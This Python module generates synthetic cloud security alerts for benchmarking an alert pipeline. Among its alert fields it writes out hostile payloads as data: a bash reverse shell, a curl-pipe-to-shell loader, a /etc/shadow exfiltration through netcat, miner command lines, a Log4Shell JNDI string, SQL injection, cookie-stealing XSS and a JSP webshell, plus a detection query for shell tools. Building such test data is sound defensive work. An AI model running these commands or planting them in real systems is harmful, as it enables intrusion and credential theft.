"""Realistic native alerts, made in memory before anything is timed.

The mix follows what a mid-sized tenant sees: mostly host alerts from
Security Center, then WAF and Cloud Firewall, a few SIEM detections; a few
thousand hosts over several accounts; attacker IPs and file hashes with a
long tail (a handful of scanners produce most of the traffic, thousands of
addresses appear once or twice). Every alert carries 1 to 4 entities and a raw
payload of roughly 500 B to 1 KB in the shape its source really sends, and
the times use both formats the API accepts (ISO-8601 and epoch milliseconds).
"""

import ipaddress
import itertools
import random
import uuid
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta

from secops.enums import RegionGroup

CHINA_REGIONS = ["cn-hangzhou", "cn-shanghai", "cn-beijing", "cn-shenzhen"]
OUTSIDE_CHINA_REGIONS = ["ap-southeast-1", "us-west-1", "eu-central-1", "ap-northeast-1"]
OPERATING_SYSTEMS = [
    "Ubuntu 22.04",
    "CentOS 7.9",
    "Alibaba Cloud Linux 3",
    "Debian 12",
    "Windows Server 2019",
]
USERS = [
    "root",
    "admin",
    "ubuntu",
    "deploy",
    "www-data",
    "postgres",
    "oracle",
    "test",
    "git",
    "Administrator",
]
DOMAINS = [
    "shop.example.com",
    "api.example.com",
    "www.example.cn",
    "portal.example.net",
    "m.example.com",
]
WEB_PATHS = [
    "/api/login",
    "/index.php",
    "/wp-login.php",
    "/admin/config",
    "/search",
    "/upload.jsp",
    "/.env",
]
MINING_POOLS = ["pool.minexmr.com", "xmr.f2pool.com", "pool.supportxmr.com", "ca.minexmr.com"]
USER_AGENTS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36",
    "sqlmap/1.7.2#stable (https://sqlmap.org)",
    "python-requests/2.31.0",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "curl/8.4.0",
]
WAF_ATTACKS = [
    # (rule type, alert name, payload that triggered it)
    ("sqli", "SQL injection", "id=1' UNION SELECT username,password FROM users--"),
    (
        "xss",
        "Cross-site scripting",
        "q=<script>document.location='//x.example/'+document.cookie</script>",
    ),
    ("code_exec", "Remote code execution", "cmd=${jndi:ldap://198.51.100.23:1389/Exploit}"),
    ("lfi", "Path traversal", "file=../../../../etc/passwd"),
    ("scanner", "Scanner behaviour", "probe=/.git/config"),
    (
        "webshell",
        "Webshell upload",
        'filename=shell.jsp&content=<%Runtime.getRuntime().exec(request.getParameter("c"))%>',
    ),
]
SIEM_DETECTIONS = [
    # (alert type, detection rule name, tactic, technique)
    ("reverse_shell", "Interactive shell with network redirection", "Execution", "T1059.004"),
    ("brute_force", "SSH brute force followed by a successful logon", "Credential Access", "T1110"),
    (
        "suspicious_login",
        "Logon from a new country for a privileged user",
        "Initial Access",
        "T1078",
    ),
    ("malicious_process", "Credential dumping from /etc/shadow", "Credential Access", "T1003.008"),
    ("abnormal_network", "Outbound connection to a mining pool", "Impact", "T1496"),
]
HOST_ALERT_TYPES = [
    # (alert type, alert name, category as Security Center names it, weight)
    ("malicious_process", "Malicious process (cloud scanning)", "Malicious Process", 20),
    ("brute_force", "SSH brute-force attack", "Unusual Logon", 15),
    ("webshell", "Webshell file found", "Webshell", 12),
    ("suspicious_login", "Logon from an unusual location", "Unusual Logon", 12),
    ("abnormal_network", "Connection to a malicious IP", "Suspicious Network Connection", 12),
    ("mining", "Cryptomining program", "Malicious Process", 10),
    ("malicious_file", "Trojan file", "Malicious Process", 8),
    ("reverse_shell", "Reverse shell command", "Suspicious Process", 6),
    ("suspicious_process", "Suspicious command execution", "Suspicious Process", 3),
    ("rootkit", "Kernel module rootkit", "Rootkit", 2),
]
SOURCE_WEIGHTS = {"security_center": 45, "waf": 25, "cloud_firewall": 20, "siem": 10}
LEVEL_WORDS = {3: "serious", 2: "suspicious", 1: "remind"}


@dataclass(frozen=True)
class BenchAccount:
    uid: str
    name: str
    home_region: str


@dataclass(frozen=True)
class Host:
    account_uid: str
    uuid: str
    instance_id: str
    name: str
    public_ip: str
    private_ip: str
    os: str
    region: str

    def as_asset(self) -> dict:
        return {
            "uuid": self.uuid,
            "instance_id": self.instance_id,
            "name": self.name,
            "public_ip": self.public_ip,
            "private_ip": self.private_ip,
            "os": self.os,
            "region": self.region,
        }


class LongTail:
    """Draws from a population with Zipf-like weights: rank r has weight 1 / r^s."""

    def __init__(self, rng: random.Random, population: list, exponent: float = 1.1):
        self.rng = rng
        self.population = population
        self.cumulative = list(
            itertools.accumulate(1 / rank**exponent for rank in range(1, len(population) + 1))
        )

    def draw(self):
        return self.rng.choices(self.population, cum_weights=self.cumulative)[0]


@dataclass
class Dataset:
    accounts: list[BenchAccount]
    hosts: list[Host]
    attacker_ips: list[str]
    file_hashes: list[str]
    items: list[dict]


class AlertGenerator:
    def __init__(
        self,
        *,
        seed: int,
        accounts: list[BenchAccount],
        hosts: int,
        attacker_ips: int,
        file_hashes: int,
        now: datetime | None = None,
    ):
        self.rng = random.Random(seed)
        self.accounts = accounts
        # Midnight: runs of the same day put alerts in the same time windows.
        self.now = now or datetime.now(UTC).replace(hour=0, minute=0, second=0, microsecond=0)
        self.hosts = [self._host(accounts[n % len(accounts)], n) for n in range(hosts)]
        self.attacker_ips = self._public_ips(attacker_ips)
        self.file_hashes = [self.rng.randbytes(32).hex() for _ in range(file_hashes)]
        self.host_tail = LongTail(self.rng, self.hosts, exponent=0.6)
        self.attacker_tail = LongTail(self.rng, self.attacker_ips)
        self.hash_tail = LongTail(self.rng, self.file_hashes)

    # --- the population -------------------------------------------------------

    def _host(self, account: BenchAccount, n: int) -> Host:
        rng = self.rng
        home = CHINA_REGIONS if account.home_region == RegionGroup.CHINA else OUTSIDE_CHINA_REGIONS
        # One host in ten lives in the account's other region group.
        other = OUTSIDE_CHINA_REGIONS if home is CHINA_REGIONS else CHINA_REGIONS
        region = rng.choice(other if rng.random() < 0.1 else home)
        return Host(
            account_uid=account.uid,
            uuid=str(uuid.UUID(int=rng.getrandbits(128), version=4)),
            instance_id=f"i-{rng.randbytes(10).hex()[:20]}",
            name=f"{rng.choice(['web', 'api', 'db', 'batch', 'k8s-node', 'bastion'])}-{n:04d}",
            public_ip=f"47.{rng.randrange(74, 120)}.{rng.randrange(256)}.{rng.randrange(1, 255)}",
            private_ip=f"172.{rng.randrange(16, 32)}.{rng.randrange(256)}.{rng.randrange(1, 255)}",
            os=rng.choice(OPERATING_SYSTEMS),
            region=region,
        )

    def _public_ips(self, count: int) -> list[str]:
        seen: set[str] = set()
        while len(seen) < count:
            address = ipaddress.IPv4Address(self.rng.getrandbits(32))
            if address.is_global and not address.is_multicast:
                seen.add(str(address))
        ips = sorted(seen)
        self.rng.shuffle(ips)
        return ips

    # --- one alert ------------------------------------------------------------

    def _time(self):
        """Within the last three days, so that 24-hour windows split groups."""
        moment = self.now - timedelta(seconds=self.rng.randrange(3 * 24 * 3600))
        if self.rng.random() < 0.5:
            return int(moment.timestamp() * 1000)
        return moment.isoformat().replace("+00:00", "Z")

    def _level(self, high_share: float) -> int:
        draw = self.rng.random()
        if draw < high_share:
            return 3
        return 2 if draw < high_share + 0.5 else 1

    def alert(self) -> dict:
        source = self.rng.choices(list(SOURCE_WEIGHTS), weights=list(SOURCE_WEIGHTS.values()))[0]
        return getattr(self, f"_{source}")()

    def _security_center(self) -> dict:
        rng = self.rng
        alert_type, name, category, _ = rng.choices(
            HOST_ALERT_TYPES, weights=[t[3] for t in HOST_ALERT_TYPES]
        )[0]
        host = self.host_tail.draw()
        level = self._level(0.15)
        occurred_at = self._time()
        attacker = self.attacker_tail.draw()
        file_hash = self.hash_tail.draw()
        path = rng.choice(
            [
                "/tmp/.x/kworker",
                "/var/www/html/upload/shell.php",
                "/usr/bin/.sshd",
                "/dev/shm/xmrig",
                "/root/.cache/dbused",
                "/opt/app/lib/payload.so",
            ]
        )
        cmdline = rng.choice(
            [
                f"bash -i >& /dev/tcp/{attacker}/4444 0>&1",
                f"{path} -o {rng.choice(MINING_POOLS)}:443 -u 4A{rng.getrandbits(60):x} --donate-level 1",
                f"curl -fsSL http://{attacker}/ldr.sh | sh",
                f"python3 -c 'import pty;pty.spawn(\"/bin/bash\")' {rng.getrandbits(20)}",
            ]
        )
        entities = {
            "malicious_process": [
                {
                    "type": "process",
                    "role": "related",
                    "path": path,
                    "cmdline": cmdline,
                    "pid": rng.randrange(300, 60000),
                    "user": rng.choice(USERS),
                },
                {"type": "file", "role": "related", "path": path, "sha256": file_hash},
            ],
            "brute_force": [
                {"type": "ip", "role": "attacker", "value": attacker},
                {
                    "type": "user",
                    "role": "victim",
                    "name": rng.choice(USERS),
                    "logon_type": "ssh",
                    "src_ip": attacker,
                },
            ],
            "webshell": [
                {"type": "file", "role": "related", "path": path, "sha256": file_hash},
            ],
            "suspicious_login": [
                {"type": "ip", "role": "attacker", "value": attacker},
                {
                    "type": "user",
                    "role": "victim",
                    "name": rng.choice(USERS),
                    "logon_type": "ssh",
                    "src_ip": attacker,
                },
            ],
            "abnormal_network": [
                {"type": "ip", "role": "attacker", "value": attacker},
                {"type": "ip", "role": "victim", "value": host.public_ip},
            ],
            "mining": [
                {
                    "type": "process",
                    "role": "related",
                    "path": path,
                    "cmdline": cmdline,
                    "pid": rng.randrange(300, 60000),
                    "user": "root",
                },
                {"type": "domain", "role": "related", "value": rng.choice(MINING_POOLS)},
            ],
            "malicious_file": [
                {
                    "type": "file",
                    "role": "related",
                    "path": path,
                    "sha256": file_hash,
                    "md5": rng.randbytes(16).hex(),
                },
            ],
            "reverse_shell": [
                {
                    "type": "process",
                    "role": "related",
                    "path": "/bin/bash",
                    "cmdline": cmdline,
                    "pid": rng.randrange(300, 60000),
                    "ppid": rng.randrange(1, 300),
                    "user": "www-data",
                },
                {"type": "ip", "role": "attacker", "value": attacker},
            ],
            "suspicious_process": [
                {
                    "type": "process",
                    "role": "related",
                    "path": "/usr/bin/python3",
                    "cmdline": cmdline,
                    "pid": rng.randrange(300, 60000),
                    "user": rng.choice(USERS),
                },
            ],
            "rootkit": [
                {
                    "type": "file",
                    "role": "related",
                    "path": "/lib/modules/diamorphine.ko",
                    "sha256": file_hash,
                },
            ],
        }[alert_type]
        # Some alerts also name the host as an entity, which brings a few to four.
        if rng.random() < 0.3:
            entities.append({"type": "host", "role": "victim", "value": host.name})
        if rng.random() < 0.2 and len(entities) < 4:
            entities.append({"type": "ip", "role": "related", "value": host.private_ip})
        unique_info = rng.randbytes(16).hex()
        detail = {
            "cmdline": cmdline,
            "path": path,
            "sha256": file_hash,
            "user": rng.choice(USERS),
            "ppid": rng.randrange(1, 300),
            "parent_path": "/usr/sbin/sshd",
            "container_id": rng.choice(["", rng.randbytes(12).hex()]),
        }
        return {
            "source": "security_center",
            "uuid": f"{host.uuid}:{unique_info}",
            "account": host.account_uid,
            "type": alert_type,
            "name": name,
            "level": LEVEL_WORDS[level],
            "occurred_at": occurred_at,
            "asset": host.as_asset(),
            "entities": entities,
            "attck": {
                "tactic": rng.choice(["Execution", "Persistence", "Credential Access", "Impact"]),
                "technique": rng.choice(["T1059", "T1505.003", "T1110.001", "T1496"]),
            },
            "description": f"{name} on {host.name} ({host.public_ip}).",
            "raw": {
                "uuid": host.uuid,
                "instance_id": host.instance_id,
                "instance_name": host.name,
                "internet_ip": host.public_ip,
                "intranet_ip": host.private_ip,
                "aliuid": host.account_uid,
                "region_id": host.region,
                "level": LEVEL_WORDS[level],
                "name": name,
                "event_type": category,
                "op": "new",
                "status": 1,
                "unique_info": unique_info,
                "suspicious_event_id": rng.randrange(10**8, 10**9),
                "time": occurred_at,
                "detail": detail,
            },
        }

    def _waf(self) -> dict:
        rng = self.rng
        rule_type, name, payload = rng.choice(WAF_ATTACKS)
        attacker = self.attacker_tail.draw()
        domain = rng.choice(DOMAINS)
        path = rng.choice(WEB_PATHS)
        occurred_at = self._time()
        # WAF protects domains: one alert in three has no host behind it.
        host = self.host_tail.draw() if rng.random() < 0.67 else None
        account_uid = host.account_uid if host else rng.choice(self.accounts).uid
        entities = [
            {"type": "ip", "role": "attacker", "value": attacker},
            {"type": "url", "role": "victim", "value": f"https://{domain}{path}"},
        ]
        if rng.random() < 0.6:
            entities.append({"type": "payload", "role": "related", "value": payload})
        if rng.random() < 0.3:
            entities.append({"type": "domain", "role": "victim", "value": domain})
        trace = rng.randbytes(16).hex()
        alert = {
            "source": "waf",
            "uuid": f"waf:{trace}",
            "account": account_uid,
            "type": "web_attack",
            "name": name,
            "level": self._level(0.2),
            "occurred_at": occurred_at,
            "entities": entities,
            "attck": {"tactic": "Initial Access", "technique": "T1190"},
            "description": f"{name} against {domain}{path} from {attacker}.",
            "raw": {
                "time": occurred_at,
                "user_id": account_uid,
                "host": domain,
                "real_client_ip": attacker,
                "remote_port": rng.randrange(1024, 65535),
                "request_method": rng.choice(["GET", "POST"]),
                "request_path": path,
                "querystring": payload,
                "http_user_agent": rng.choice(USER_AGENTS),
                "http_referer": "-",
                "status": 405,
                "final_action": "block",
                "final_plugin": "waf",
                "final_rule_type": rule_type,
                "final_rule_id": rng.randrange(100000, 200000),
                "request_traceid": trace,
                "upstream_addr": f"{host.private_ip}:8080" if host else "-",
                "body_bytes_sent": rng.randrange(200, 2000),
                "request_time_msec": rng.randrange(1, 80),
            },
        }
        if host:
            alert["asset"] = host.as_asset()
        return alert

    def _cloud_firewall(self) -> dict:
        rng = self.rng
        host = self.host_tail.draw()
        attacker = self.attacker_tail.draw()
        alert_type, name, app = rng.choice(
            [
                ("brute_force", "SSH brute-force attempt blocked", "SSH"),
                ("brute_force", "RDP brute-force attempt blocked", "RDP"),
                ("abnormal_network", "Connection to a known C2 address", "HTTPS"),
                ("vulnerability_exploit", "Exploit attempt: Redis unauthorised access", "Redis"),
            ]
        )
        occurred_at = self._time()
        entities = [
            {"type": "ip", "role": "attacker", "value": attacker},
            {"type": "ip", "role": "victim", "value": host.public_ip},
        ]
        if rng.random() < 0.25:
            entities.append({"type": "host", "role": "victim", "value": host.name})
        session = rng.randbytes(12).hex()
        return {
            "source": "cloud_firewall",
            "uuid": f"cfw:{session}",
            "account": host.account_uid,
            "type": alert_type,
            "name": name,
            "level": self._level(0.1),
            "occurred_at": occurred_at,
            "asset": {
                "uuid": host.uuid,
                "instance_id": host.instance_id,
                "public_ip": host.public_ip,
                "region": host.region,
            },
            "entities": entities,
            "description": f"{name}: {attacker} -> {host.public_ip}.",
            "raw": {
                "aliuid": host.account_uid,
                "region_id": host.region,
                "start_time": occurred_at,
                "src_ip": attacker,
                "src_port": rng.randrange(1024, 65535),
                "dst_ip": host.public_ip,
                "dst_port": {"SSH": 22, "RDP": 3389, "HTTPS": 443, "Redis": 6379}[app],
                "proto": "tcp",
                "direction": "in",
                "app_name": app,
                "rule_result": "drop",
                "ips_rule_id": rng.randrange(10000, 99999),
                "ips_rule_name": name,
                "attack_type": alert_type.replace("_", " "),
                "vul_level": rng.choice([1, 2, 3]),
                "session_id": session,
                "packet_bytes": rng.randrange(60, 1500),
                "tags": ["ips", "threat_intelligence"] if rng.random() < 0.3 else ["ips"],
            },
        }

    def _siem(self) -> dict:
        rng = self.rng
        rule_number = rng.randrange(len(SIEM_DETECTIONS))
        alert_type, rule_name, tactic, technique = SIEM_DETECTIONS[rule_number]
        host = self.host_tail.draw()
        attacker = self.attacker_tail.draw()
        occurred_at = self._time()
        user = rng.choice(USERS)
        entities = [{"type": "user", "role": "victim", "name": user}]
        if alert_type in ("brute_force", "suspicious_login", "reverse_shell"):
            entities.append({"type": "ip", "role": "attacker", "value": attacker})
        if alert_type in ("malicious_process", "reverse_shell", "abnormal_network"):
            entities.append(
                {
                    "type": "process",
                    "role": "related",
                    "path": "/bin/bash",
                    "cmdline": f"bash -c 'cat /etc/shadow | nc {attacker} 9001'",
                }
            )
        detection = rng.randbytes(12).hex()
        return {
            "source": "siem",
            "uuid": f"siem:{detection}",
            "account": host.account_uid,
            "type": alert_type,
            "name": rule_name,
            "level": self._level(0.3),
            "occurred_at": occurred_at,
            "asset": host.as_asset(),
            "entities": entities,
            "attck": {"tactic": tactic, "technique": technique},
            "description": f"Detection rule '{rule_name}' matched on {host.name}.",
            "raw": {
                "detection_id": detection,
                "rule_id": f"siem-{rule_number + 101}",
                "rule_name": rule_name,
                "window": "5m",
                "threshold": 1,
                "query": "log_type = 'process' AND cmdline ~ '(nc|ncat|bash -i)'",
                "matched_logs": [
                    {
                        "time": occurred_at,
                        "host_uuid": host.uuid,
                        "user": user,
                        "cmdline": f"bash -c 'id; uname -a' #{rng.getrandbits(24)}",
                    }
                    for _ in range(rng.randrange(1, 3))
                ],
            },
        }


def generate(
    *,
    alerts: int,
    seed: int,
    accounts: list[BenchAccount],
    hosts: int,
    attacker_ips: int,
    file_hashes: int,
) -> Dataset:
    generator = AlertGenerator(
        seed=seed,
        accounts=accounts,
        hosts=hosts,
        attacker_ips=attacker_ips,
        file_hashes=file_hashes,
    )
    items = [generator.alert() for _ in range(alerts)]
    return Dataset(accounts, generator.hosts, generator.attacker_ips, generator.file_hashes, items)
